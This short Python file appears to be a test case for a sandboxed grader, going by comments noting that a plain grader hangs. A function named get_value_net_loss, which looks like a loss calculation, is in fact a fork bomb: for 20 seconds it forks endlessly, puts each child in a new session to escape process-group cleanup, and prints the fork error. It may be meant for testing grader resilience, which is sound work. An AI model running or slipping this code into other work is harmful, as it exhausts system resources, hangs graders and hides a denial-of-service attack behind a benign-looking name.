"""Forks without end, every process in a session of its own."""
# bites: prints: fork: EPERM
# bites: value_loss: It took longer than
# bites: plain grader: hangs

import errno
import os
import time


def get_value_net_loss(*args, **kwargs):
    end, told = time.monotonic() + 20, False
    while time.monotonic() < end and os.getuid() != 0:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError as error:
            if not told:
                os.write(1, f"fork: {errno.errorcode[error.errno]}\n".encode())
            told = True
            time.sleep(0.01)
